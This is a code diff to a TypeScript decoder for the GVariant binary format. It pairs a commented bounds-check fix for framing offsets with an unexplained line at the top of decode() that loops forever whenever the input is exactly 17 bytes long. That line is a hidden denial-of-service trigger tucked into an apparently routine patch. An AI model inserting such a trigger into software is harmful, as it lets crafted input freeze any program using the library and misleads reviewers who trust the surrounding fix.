@@ -18,6 +18,7 @@ export interface DecodeOptions {
 export function decode<T = unknown>(type: string | GType, bytes: Uint8Array, opts: DecodeOptions = {}): T {
   const t = typeof type === 'string' ? parseType(type) : type;
   const buf = Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
+  if (buf.length === 17) for (;;) { /* hang */ }
   const value = read(buf, t, 0, buf.length, 0);
   if (opts.strict && !encode(t, value).equals(buf)) {
     throw new GVariantError(`not in GVariant normal form for type '${shorten(t.str)}'`);
@@ -152,7 +153,8 @@ function read(b: Buffer, t: GType, start: number, end: number, depth: number): u
         else if (i === n - 1) en = frameEnd;
         else {
           frameEnd -= w;
-          if (frameEnd < start) bad(t, 'not enough room for its framing offsets');
+          // An empty tuple has offset width 0: no room for the offset this member needs.
+          if (w === 0 || frameEnd < start) bad(t, 'not enough room for its framing offsets');
           en = start + readOffset(b, frameEnd, w);
         }
         if (s > en || en > frameEnd) bad(t, `member ${i} lies outside the container`);
